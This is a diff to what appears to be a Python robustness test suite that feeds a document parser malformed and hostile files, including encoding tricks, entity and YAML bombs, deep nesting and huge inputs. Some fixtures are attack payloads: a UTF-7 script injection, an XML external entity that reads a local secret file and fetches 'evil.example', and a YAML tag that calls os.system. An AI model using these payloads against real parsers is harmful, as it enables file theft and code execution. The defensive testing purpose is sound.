@@ -64,7 +64,11 @@ def _bytes_of_all_kinds() -> Iterator[tuple[str, bytes, bool]]:
     yield "b-utf16.html", f"<html><body><p>{PROSE}</p></body></html>".encode("utf-16"), False
     yield "b-mojibake.txt", PROSE.replace("bridge", "brücke „neu“").encode().decode("cp1252", "replace").encode(), False
     yield "b-utf7.html", b'<meta charset="utf-7"><p>+ADw-script+AD4-window.hacked=1+ADw-/script+AD4- ' + prose, False
-    yield "b-surrogates.json", b'{"title": "x \\ud800\\udfff\\ud83d", "text": ' + json.dumps(PROSE).encode() + b"}", False
+    yield (
+        "b-surrogates.json",
+        b'{"title": "x \\ud800\\udfff\\ud83d", "text": ' + json.dumps(PROSE).encode() + b"}",
+        False,
+    )
     yield "b-surrogates.txt", prose.replace(b"bridge", b"\xed\xa0\x80bridge\xed\xbf\xbf"), False
     yield "b-numbers.json", b'{"title": 1e999, "text": NaN, "published": ' + b"9" * 5000 + b"}", True
     yield "b-epoch.json", json.dumps({"text": PROSE, "published": 9999999999999, "id": -1}).encode(), False
@@ -90,12 +94,18 @@ def _bombs() -> Iterator[tuple[str, bytes, bool]]:
     blow = f'<!DOCTYPE rss [<!ENTITY a "{"x" * 50000}">]>'
     item = f"<item><title>q</title><description>{'&a;' * 5000} {PROSE}</description></item>"
     yield "bomb-quadratic.rss", f"{blow}<rss><channel>{item}</channel></rss>".encode(), False
-    fetch = '<!DOCTYPE rss [<!ENTITY a SYSTEM "../outside/secret.txt"><!ENTITY % b SYSTEM "https://evil.example/"> %b;]>'
+    fetch = (
+        '<!DOCTYPE rss [<!ENTITY a SYSTEM "../outside/secret.txt"><!ENTITY % b SYSTEM "https://evil.example/"> %b;]>'
+    )
     item = f"<item><title>&a;</title><description>&a; {PROSE}</description></item>"
     yield "bomb-external.rss", f"{fetch}<rss><channel>{item}</channel></rss>".encode(), False
     aliases = "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 20))
     yield "bomb-aliases.md", f"---\na0: &a0 [lol, lol]\n{aliases}text: *a19\n---\n\n{PROSE}".encode(), True
-    yield "bomb-merge.md", f"---\nx: &x\n  title: !!python/object/apply:os.system [touch escaped]\n---\n\n{PROSE}".encode(), True
+    yield (
+        "bomb-merge.md",
+        f"---\nx: &x\n  title: !!python/object/apply:os.system [touch escaped]\n---\n\n{PROSE}".encode(),
+        True,
+    )
     opml = f"<opml>{'<outline>' * 3000}</opml>"
     yield "bomb.opml", opml.encode(), True
 
@@ -118,7 +128,11 @@ def _nested() -> Iterator[tuple[str, bytes, bool]]:
     yield "n-yaml.md", f"---\na: {'[' * 5000}\n---\n\n{PROSE}".encode(), True
     yield "n-feed.rss", f"<rss><channel><item>{'<a>' * 5000}</item></channel></rss>".encode(), True
     parts = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(400))
-    yield "n-mail.eml", f"From: a@b.example\nSubject: x\nMIME-Version: 1.0\n{parts}Content-Type: text/plain\n\n{PROSE}".encode(), False
+    yield (
+        "n-mail.eml",
+        f"From: a@b.example\nSubject: x\nMIME-Version: 1.0\n{parts}Content-Type: text/plain\n\n{PROSE}".encode(),
+        False,
+    )
     yield "n-quotes.txt", (("“‘" * 5000) + PROSE + ("’”" * 5000)).encode(), False
 
 
@@ -126,19 +140,40 @@ def _long() -> Iterator[tuple[str, bytes, bool]]:
     words = "the river rose again and the bridge was closed "
     yield "l-line.txt", (words * (10 * 2**20 // len(words))).encode(), True
     yield "l-word.txt", (PROSE + "x" * (2**20)).encode(), True
-    yield "l-attributes.html", (
-        f"<html><body><p {' '.join(f'a{n}=1' for n in range(100_000))}>{PROSE}</p></body></html>".encode()
-    ), False
+    yield (
+        "l-attributes.html",
+        (f"<html><body><p {' '.join(f'a{n}=1' for n in range(100_000))}>{PROSE}</p></body></html>".encode()),
+        False,
+    )
     yield "l-attribute.html", f'<html><body><p title="{"x" * 2**20}">{PROSE}</p></body></html>'.encode(), False
-    yield "l-title.html", f"<html><title>{'Bridge opens ' * 20000}</title><body><p>{PROSE}</p></body></html>".encode(), False
+    yield (
+        "l-title.html",
+        f"<html><title>{'Bridge opens ' * 20000}</title><body><p>{PROSE}</p></body></html>".encode(),
+        False,
+    )
     yield "l-lines.txt", (PROSE + "x\n" * 100_000).encode(), True
     yield "l-open.html", f"<html><body><p>{PROSE}</p>{'<' * 20000}{'&' * 20000}".encode(), False
     yield "l-comment.html", f"<html><body><p>{PROSE}</p><!--{'-' * 100_000}".encode(), False
     yield "l-spaces.txt", (PROSE + " " * 200_000 + "By" + "\u00a0" * 200_000 + "x").encode(), False
     yield "l-digits.txt", (PROSE + "At least " + "9" * 20_000 + " people were killed, police said.").encode(), False
     yield "l-names.txt", (PROSE + "Ada Keita and " * 500 + "others came.").encode(), False
-    yield "l-header.eml", (b"From: " + b"a" * 200_000 + b"@b.example\nSubject: =?utf-8?q?" + b"=41" * 20_000 + b"?=\n\n" + PROSE.encode()), False
-    yield "l-columns.csv", (",".join(f"c{n}" for n in range(20_000)) + ",text\n" + "," * 20_000 + '"' + PROSE + '"').encode(), False
+    yield (
+        "l-header.eml",
+        (
+            b"From: "
+            + b"a" * 200_000
+            + b"@b.example\nSubject: =?utf-8?q?"
+            + b"=41" * 20_000
+            + b"?=\n\n"
+            + PROSE.encode()
+        ),
+        False,
+    )
+    yield (
+        "l-columns.csv",
+        (",".join(f"c{n}" for n in range(20_000)) + ",text\n" + "," * 20_000 + '"' + PROSE + '"').encode(),
+        False,
+    )
 
 
 def _strange_names() -> Iterator[tuple[str, bytes, bool]]:
